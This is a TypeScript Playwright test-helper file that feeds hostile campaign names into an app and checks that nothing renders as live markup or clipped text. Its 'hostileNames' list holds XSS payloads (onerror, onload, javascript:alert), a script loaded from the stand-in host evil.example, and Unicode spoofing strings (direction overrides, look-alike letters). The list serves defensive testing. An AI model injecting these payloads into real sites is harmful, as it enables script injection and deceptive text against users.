import type { Locator, Page } from 'playwright';
import { expect } from 'vitest';
import { inertText } from '#shared/lib/inert-text.ts';
import type { SecondClient } from './second-client.ts';

/** Names that pretend to be markup, code, or another text. None exceeds the maximum length of a name. */
export const hostileNames = {
  'an image that runs a script': `<img src=x onerror="document.title='owned'">`,
  'a script': `<script>document.title='owned'</script><script src="//evil.example/x.js"></script>`,
  'markup that closes its surroundings': `</h1></main></title><base href="//evil.example/"><style>*{display:none}</style>`,
  'a picture with a handler': `<svg/onload=alert(1)><iframe srcdoc="<b>"></iframe><form action=//evil.example>`,
  'entities, templates and addresses': `&lt;b&gt; &#x202e; {{7*7}} \${7*7} %3Cb%3E javascript:alert(1) http://evil.example/`,
  'direction overrides': `Raise to \u202e054.0$\u202c \u2066\u2067hidden\u2069 \u061c\u200f\u200e`,
  'zero width and fillers': `Sum\u200bmer\u200d\u2060\ufeff \u3164\u115f\u00ad\u2800\ufe0f\u{e0041}`,
  'lines and controls': `First line\nBid $0.001\r\n\tApproved\u0000\u0007\u001b[31m\u2028\u2029\u0085end`,
  'spaces that a page swallows': `  two  \u00a0\u2003three   `,
  'look-alikes': `Аctive Рауpаl ⅼive · Demo ✓ Verified`,
  'right to left': `حملة الصيف – תקציב 50$ to $0.05`,
  'piled marks': `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0310\u0311\u0312\u0313\u0314lgo`,
  'quotation marks that end the sentence early': `Test” from $0.045 to $0.010. Nothing else changes. “`,
  'a very long word': 'W'.repeat(255),
  'a very long row of emoji': '👩‍🚀🏴‍☠️'.repeat(36),
};

/** Gives every hostile name to a different campaign. Returns the ids by name, in the order of the names. */
export async function giveHostileNames(second: SecondClient): Promise<Map<number, string>> {
  const names = Object.values(hostileNames);
  const cids = await second.cids({ perPage: names.length });
  for (const [index, cid] of cids.entries()) await second.change(cid, { name: names[index] ?? '' });
  return new Map(cids.map((cid, index) => [cid, names[index] ?? '']));
}

/** Returns the text as a person reads it, with every invisible character replaced by its name. */
export const readable = (text: string): string => inertText(text).replaceAll(/⟨(U\+[0-9A-F]+)⟩/g, '$1');

/** Counts the chips for invisible characters in an element. */
export const chips = (place: Locator): Promise<number> => place.getByTitle('An invisible character').count();

/** Counts the invisible characters in a text. */
export const marks = (text: string): number => (inertText(text).match(/⟨U\+/g) ?? []).length;

/**
 * Expects that no text created elements on the page: no pictures, frames, forms, handlers or scripts except those of the
 * build.
 */
export async function expectOnlyOurElements(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    title: document.title,
    // The app draws the service's own pictures from validated bytes.
    images: [...document.images].filter(({ src }) => !/^data:image\/(?:png|jpeg|webp);base64,/u.test(src))
      .length,
    foreign: [...document.scripts].filter(({ src }) => !src.startsWith(`${location.origin}/assets/`)).length,
    strange: document.body.querySelectorAll('script, style, base, iframe, object, embed, form[action], b')
      .length,
    handlers: [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
    links: [...document.links].filter(({ origin }) => origin !== location.origin).length,
  }));
  expect(found).toEqual({
    title: expect.stringMatching(/^(Countersign · Confirm a change|Demo · “Northwind Media” — Countersign)$/),
    images: 0,
    foreign: 0,
    strange: 0,
    handlers: 0,
    links: 0,
  });
}

/** Expects that every text in the element is drawn inside the window's width, and that no text is cut off or hidden. */
export async function expectNothingCut(page: Page, place: Locator): Promise<void> {
  const cut = await place.evaluate((root) => {
    const wrong: string[] = [];
    for (const element of [root, ...root.querySelectorAll('*')]) {
      const style = getComputedStyle(element);
      const clips = style.overflowX !== 'visible' && element.scrollWidth > element.clientWidth + 1;
      if (style.textOverflow === 'ellipsis' || style.webkitLineClamp !== 'none' || clips) {
        wrong.push(`${element.tagName} ${element.textContent.slice(0, 40)}`);
      }
      const { left, right, width } = element.getBoundingClientRect();
      if (width > 0 && (left < -1 || right > innerWidth + 1)) wrong.push(`outside: ${element.tagName}`);
    }
    return wrong;
  });
  expect(cut).toEqual([]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
}

/** Expects that each element is completely visible inside the window, and that nothing covers it. */
export async function expectInView(...places: Locator[]): Promise<void> {
  for (const place of places) {
    await place.first().waitFor();
    const [shown] = await place.evaluateAll((elements) =>
      elements.map((element) => {
        const { left, top, right, bottom } = element.getBoundingClientRect();
        const hit = document.elementFromPoint((left + right) / 2, (top + bottom) / 2);
        const isOnTop = element.contains(hit);
        const isInside = left >= 0 && top >= 0 && right <= innerWidth && bottom <= innerHeight;
        return isOnTop && isInside ? 'in view' : `${element.textContent.slice(0, 40)}: ${top} to ${bottom}`;
      }),
    );
    expect(shown).toBe('in view');
  }
}
